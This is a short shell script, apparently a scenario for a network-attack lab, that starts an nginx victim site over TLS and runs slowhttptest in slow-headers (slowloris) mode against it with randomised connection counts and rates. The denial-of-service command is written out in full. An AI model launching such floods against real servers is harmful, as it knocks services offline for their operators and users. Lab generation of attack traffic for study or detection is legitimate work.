# SPDX-License-Identifier: MIT
# label: dos-http-slow
# source: lab-slowhttptest
# needs: slowhttptest nginx
# seconds: 60
# Headers that never end, over TLS.
. $lab/victims.sh

servers() {
	victim_site a 443
}

scenario() {
	_count=$(choose 60 120 200)
	setting options "-H -c $_count"
	cd "$work" || return
	attack v a tcp 443 -- timeout 50 slowhttptest -H -c "$_count" -r "$(choose 5 20)" \
		-i "$(choose 5 10)" -l 45 -u "https://$(addr a)/"
}
